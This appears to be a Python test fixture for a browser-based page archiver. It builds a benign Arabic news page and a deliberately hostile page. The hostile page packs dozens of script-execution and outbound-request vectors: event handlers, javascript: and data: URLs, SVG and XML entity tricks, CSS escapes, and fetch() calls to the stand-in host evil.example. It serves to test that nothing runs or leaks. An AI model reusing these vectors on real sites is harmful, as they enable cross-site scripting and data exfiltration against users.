"""The pages: one that looks like something, and one that tries everything to run or to leave."""

from __future__ import annotations

import shutil
import subprocess
from pathlib import Path

from tests.browser.origin import Site
from tests.browser.picture import image

LOOKS = "http://paper.example/world/2026/story.html"
HOSTILE = "http://paper.example/hostile.html"
RED = (254, 1, 1)
"""What the hostile page becomes when any script of it runs."""
_HTML = "text/html; charset=windows-1256"

_LOOKS = """<!DOCTYPE html>
<html dir="rtl" lang="ar"><head><meta charset="windows-1256"><title>العراق</title>
<base href="http://paper.example/world/assets/">
<link rel="stylesheet" href="../css/main.css?v=1&amp;x=2">
<style>.inline { background: url("../img/green.png"); height: 40px }</style>
</head><body background="../img/pale.png">
<h1>مكتبة في الموصل تستعيد ثلاثين ألف كتاب</h1>
<div class="inline"></div>
<p class="font" dir="ltr">0123456789 In the paper's own font: Mil il lim</p>
<img src=//cdn.example/a/blue.png alt="" width="120" height="60">
<img srcset="../img/orange.png 1x, ../img/orange-2x.png 2x" alt="" width="120" height="60">
<picture><source media="(min-width: 600px)" srcset="http://cdn.example/a/wide.png 1000w" sizes="100vw"><img src="../img/narrow.png" width="200" height="40" alt=""></picture>
<div style="background-image: url(&quot;../img/violet.png&quot;); width: 300px; height: 50px"></div>
<div class="imported">من ورقة مستوردة</div>
<iframe src="../frames/box.html" width="500" height="160"></iframe>
<svg width="200" height="60"><defs><rect id="box" width="60" height="60" fill="teal"/></defs><use href="#box"/>
<image x="80" href="../img/orange.png" width="60" height="60"/></svg>
<input type="image" src="../img/violet.png" width="60" height="30" alt="">
<video controls poster="../img/green.png" width="200" height="80"></video>
<p>وتقول الطائي إن العراق خسر من كتبه ما لا يُحصى. <a href="../other.html">المزيد</a></p>
</body></html>"""

_MAIN = """@charset "utf-8";
@import "more.css";
@font-face { font-family: Paper; src: url(../fonts/paper.ttf) }
body { margin: 24px; font-size: 18px; font-family: sans-serif }
h1 { color: #204080; border-bottom: 6px solid #c08020 }
.font { font-family: Paper, serif; font-size: 28px }
"""
_MORE = ".imported { background: #ffd0d0 url('../img/green.png') no-repeat left; padding: 20px }"
_BOX = """<!doctype html><link rel=stylesheet href=box.css><p class=box>A frame of the paper</p><img src=../img/orange.png width=80 height=40>"""


def looks() -> Site:
    base = "http://paper.example/world"
    colours = {
        "img/green.png": (40, 160, 80), "img/pale.png": (240, 240, 225), "img/orange.png": (240, 140, 20),
        "img/orange-2x.png": (240, 140, 20), "img/narrow.png": (10, 10, 10), "img/violet.png": (130, 60, 190),
    }  # fmt: skip
    found = {f"{base}/{place}": ("image/png", image(40, 40, colour)) for place, colour in colours.items()}
    return found | {
        LOOKS: (_HTML, _LOOKS.encode("windows-1256")),
        f"{base}/css/main.css?v=1&x=2": ("text/css", _MAIN.encode()),
        f"{base}/css/more.css": ("text/css", _MORE.encode()),
        f"{base}/frames/box.html": ("text/html", _BOX.encode()),
        f"{base}/frames/box.css": ("text/css", b".box { background: #203050; color: white; padding: 12px }"),
        f"{base}/fonts/paper.ttf": ("font/ttf", font()),
        "http://cdn.example/a/blue.png": ("image/png", image(40, 40, (30, 90, 220))),
        "http://cdn.example/a/wide.png": ("image/png", image(40, 40, (200, 60, 120))),
    }


def font() -> bytes:
    """Some font of the machine that is no default; none where it has none."""
    if not shutil.which("fc-match"):
        return b""
    found = subprocess.run(["fc-match", "-f", "%{file}", "monospace"], capture_output=True, text=True, check=False)
    path = Path(found.stdout)
    return path.read_bytes() if path.suffix == ".ttf" else b""


def hostile(direct: int) -> Site:
    """`direct`: a port of loopback that the page names by its number, so that no rule for names stands in the way."""
    run = _run("inline", direct)
    page = f"""<!doctype html><html manifest="//evil.example/manifest"><head><title>Hostile</title>
<base href="http://paper.example/" target="_self">
<meta http-equiv="refresh" content="0; url=http://evil.example/refresh">
<meta http-equiv="Content-Security-Policy" content="default-src *; script-src * 'unsafe-inline'; report-uri http://evil.example/report">
<link rel="dns-prefetch" href="//names.evil.example"><link rel="preconnect" href="http://connect.evil.example">
<link rel="prefetch" href="http://evil.example/prefetch"><link rel="prerender" href="http://evil.example/prerender">
<link rel="preload" as="image" href="http://evil.example/preload.png"><link rel="modulepreload" href="http://evil.example/m.js">
<link rel="preload" as="image" imagesrcset="http://evil.example/set.png 1x" href="">
<link rel="stylesheet" href="http://evil.example/sheet.css"><link rel="icon" href="http://evil.example/icon.ico">
<link rel="stylesheet" href="/hostile.css"><link rel="manifest" href="http://evil.example/app.json">
<script type="speculationrules">{{"prefetch": [{{"source": "list", "urls": ["http://evil.example/speculated"]}}]}}</script>
<script>{run}</script><script src="/archived.js"></script><script src="http://evil.example/x.js"></script>
<script type="module" src="/archived.js"></script>
<style>@import "http://evil.example/import.css"; @import url(//evil.example/import2.css);
 p {{ background: url(http://evil.example/p.png), \\75rl(http://evil.example/q.png) }}
 @font-face {{ font-family: E; src: url(http://evil.example/e.woff2) }} h1 {{ font-family: E }}</style>
</head><body onload="{run}" background="http://evil.example/body.png">
<h1>Nothing runs</h1><p style="list-style: url('http://evil.example/list.png')">Nothing leaves</p>
<img src="http://evil.example/i.png" srcset="http://evil.example/1.png 1x, //evil.example/2.png 2x" onerror="{run}">
<img src="http://127.0.0.1:{direct}/by-number.png"><img src="\thttp://evil.exa\nmple/tab.png">
<image src="http://evil.example/image.png"><input type="image" src="http://evil.example/input.png">
<svg><script>{run}</script><script href="/archived.js"/><image href="http://evil.example/svg.png"/>
 <use href="http://evil.example/use.svg#x"/><a xlink:href="javascript:{run}"><text y="20">svg</text></a>
 <style>rect {{ fill: url(http://evil.example/fill.svg#f) }}</style><rect width="9" height="9"/></svg>
<svg onload="{run}"></svg><math href="javascript:{run}"></math>
<iframe src="http://evil.example/frame.html"></iframe><iframe src="javascript:{run}"></iframe>
<iframe srcdoc="&lt;script&gt;parent.document.title=1&lt;/script&gt;&lt;img src=http://evil.example/srcdoc.png&gt;"></iframe>
<iframe src="/inner.html"></iframe><iframe src="data:text/html,<script>fetch('http://evil.example/data')</script><img src=http://evil.example/dataimg.png>"></iframe>
<object data="http://evil.example/o.svg"></object><embed src="http://evil.example/e.svg"><object data="/drawing.svg"></object>
<video src="http://evil.example/v.mp4" poster="http://evil.example/v.png" autoplay><track default src="http://evil.example/v.vtt"></video>
<audio src="http://evil.example/a.mp3" autoplay></audio>
<form id="f" action="http://evil.example/form" method="post"><input name="a" value="b" autofocus onfocus="{run}"><button id="b">send</button></form>
<details open ontoggle="{run}"><summary>x</summary></details>
<a href="http://evil.example/click" ping="http://evil.example/ping">leave</a>
<noscript><img src="http://evil.example/noscript.png"></noscript>
<table background="http://evil.example/table.png"><tr><td background=http://evil.example/td.png>cell</table>
<!--[if IE]><img src="http://evil.example/ie.png"><![endif]-->
<template><img src="http://evil.example/template.png"></template>
</body></html>"""
    inner = f"<!doctype html><meta http-equiv=refresh content='0;http://evil.example/inner'><script>{run}</script>inner"
    drawing = (
        f"<svg xmlns='http://www.w3.org/2000/svg'><script>{run}</script><image href='http://evil.example/d.png'/></svg>"
    )
    return {
        HOSTILE: ("text/html; charset=utf-8", page.encode()),
        "http://paper.example/archived.js": ("text/javascript", _run("archived", direct).encode()),
        "http://paper.example/hostile.css": (
            "text/css",
            b"@import url(//evil.example/css.css); h1 { background: url(http://evil.example/css.png) }",
        ),
        "http://paper.example/inner.html": ("text/html", inner.encode()),
        "http://paper.example/drawing.svg": ("image/svg+xml", drawing.encode()),
        **_documents(f"http://127.0.0.1:{direct}/"),
    }


def _documents(outside: str) -> Site:
    """What only a parser of XML takes for an element that connects ahead, which no policy forbids."""
    names = 'xmlns:h="http://www.w3.org/1999/xhtml" xmlns:_="http://www.w3.org/1999/xhtml"'
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" {names}>'
    ahead = f"rel='preconnect' href='{outside}'/>"
    declared = f'<!DOCTYPE svg [<!ENTITY x "<h:link {ahead}">]>{svg}&x;</svg>'
    page = f'<html xmlns="http://www.w3.org/1999/xhtml"><head><script src="a.js"/><link {ahead}</head></html>'
    return {
        "http://paper.example/named.svg": ("image/svg+xml", f"{svg}<_:link {ahead}</svg>".encode()),
        "http://paper.example/declared.svg": ("image/svg+xml", declared.encode()),
        "http://paper.example/page.xhtml": ("application/xhtml+xml", page.encode()),
    }


def _run(which: str, direct: int) -> str:
    """What each script does: it paints, calls out in several ways, registers a worker and sends the form."""
    red = f"rgb({RED[0]},{RED[1]},{RED[2]})"
    return (
        f"document.title='RAN';document.documentElement.style.cssText='background:{red}!important';"
        f"fetch('http://evil.example/{which}');new Image().src='http://127.0.0.1:{direct}/{which}';"
        f"open('http://evil.example/open');navigator.serviceWorker&&navigator.serviceWorker.register('/archived.js');"
        f"var f=document.getElementById('f');f&&f.submit()"
    )
